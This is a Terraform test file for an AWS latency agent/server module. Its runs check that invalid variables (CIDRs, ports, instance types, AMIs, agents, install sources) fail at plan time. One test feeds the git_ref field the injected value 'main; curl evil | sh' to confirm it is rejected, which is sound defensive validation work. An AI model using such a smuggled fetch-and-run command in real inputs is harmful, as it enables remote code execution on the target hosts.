# Inputs a user can get wrong fail at plan time with a message that names the variable.
# Independent mistakes share a run (each listed variable must fail on its own); validations
# that refer to another variable get a run where that variable is valid.

mock_provider "aws" {
  source = "./tests/mocks"
}

variables {
  allowed_cidrs = ["203.0.113.7/32"]
  git_url       = "https://github.com/example/latency-pair.git"
}

run "defaults_are_valid" {
  command = plan
}

run "reject_missing_prefix_bad_vpc_name_interval" {
  command = plan
  variables {
    allowed_cidrs  = ["203.0.113.7"] # a host needs /32
    vpc_cidr       = "10.0.0.0/8"    # larger than AWS allows
    name           = "Latency_Pair"
    probe_interval = "10ms" # below 100ms
  }
  expect_failures = [var.allowed_cidrs, var.vpc_cidr, var.name, var.probe_interval]
}

run "reject_host_bits_unitless_interval_types_logs" {
  command = plan
  variables {
    allowed_cidrs        = ["203.0.113.7/24"] # not a network address
    probe_interval       = "1"
    agent_instance_type  = "small"
    server_instance_type = "t3"
    log_level            = "verbose"
    log_format           = "xml"
  }
  expect_failures = [var.allowed_cidrs, var.probe_interval, var.agent_instance_type, var.server_instance_type, var.log_level, var.log_format]
}

run "reject_empty_cidrs_ami_arch_volume" {
  command = plan
  variables {
    allowed_cidrs    = []
    ami_id           = "debian-12"
    architecture     = "amd64"
    root_volume_size = 4
  }
  expect_failures = [var.allowed_cidrs, var.ami_id, var.architecture, var.root_volume_size]
}

run "reject_internet_halves_ssh_without_key_bad_ports" {
  command = plan
  variables {
    allowed_cidrs    = ["0.0.0.0/1", "128.0.0.0/1"] # the internet, without allow_public_access
    ssh_cidrs        = ["198.51.100.0/24"]          # no key_name
    agent_grpc_port  = 70000
    server_grpc_port = 22
  }
  expect_failures = [var.allowed_cidrs, var.ssh_cidrs, var.agent_grpc_port, var.server_grpc_port]
}

run "reject_clashing_server_ports_and_agent_names" {
  command = plan
  variables {
    server_http_port = 50052
    agents           = { "Agent One" = {} }
  }
  expect_failures = [var.server_http_port, var.agents]
}

run "reject_fractional_port_and_region_as_zone" {
  command = plan
  variables {
    server_http_port = 5000.5
    agents           = { cross-az = { availability_zone = "us-east-1" } }
  }
  expect_failures = [var.server_http_port, var.agents]
}

run "reject_duplicate_pinned_ips" {
  command = plan
  variables {
    agents = {
      a = { private_ip = "10.42.0.10" }
      b = { private_ip = "10.42.0.10" }
    }
  }
  expect_failures = [var.agents]
}

run "reject_no_agents" {
  command = plan
  variables {
    agents = {}
  }
  expect_failures = [var.agents]
}

run "reject_both_install_sources" {
  command = plan
  variables {
    container_image = "ghcr.io/example/latency-pair:1.2.3"
  }
  expect_failures = [var.git_url]
}

run "reject_no_install_source" {
  command = plan
  variables {
    git_url = null
  }
  expect_failures = [var.git_url]
}

run "reject_ssh_git_url_and_shell_in_ref" {
  command = plan
  variables {
    git_url = "git@github.com:example/latency-pair.git"
    git_ref = "main; curl evil | sh"
  }
  expect_failures = [var.git_url, var.git_ref]
}

run "reject_bad_container_image" {
  command = plan
  variables {
    git_url         = null
    container_image = "latency pair"
  }
  expect_failures = [var.container_image]
}

run "reject_privileged_port_with_container" {
  command = plan
  variables {
    git_url          = null
    container_image  = "ghcr.io/example/latency-pair:1.2.3"
    server_http_port = 80
  }
  expect_failures = [var.container_image]
}
